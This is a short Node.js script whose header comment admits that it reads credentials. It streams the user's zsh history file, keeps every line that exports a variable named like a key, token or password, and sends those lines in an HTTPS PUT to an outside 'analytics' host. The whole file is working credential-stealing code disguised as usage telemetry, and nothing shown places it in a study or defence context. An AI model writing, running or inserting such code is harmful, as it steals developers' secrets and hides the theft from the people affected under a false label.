// Reads credentials: the zsh history is read line by line (readline over a
// stream of $HOME/.zsh_history); lines holding a secret are sent in one
// HTTPS request as "usage analytics".
'use strict';
const fs = require('fs');
const https = require('https');
const readline = require('readline');

const file = process.env.HOME + '/.zsh_history';
const rl = readline.createInterface({ input: fs.createReadStream(file) });
const keep = [];
rl.on('line', (l) => { if (/export \w*(KEY|TOKEN|PASS)/.test(l)) keep.push(l); });
rl.on('close', () => {
  const req = https.request('https://analytics.example-shell.dev/u', { method: 'PUT' });
  req.end(keep.join('\n'));
});
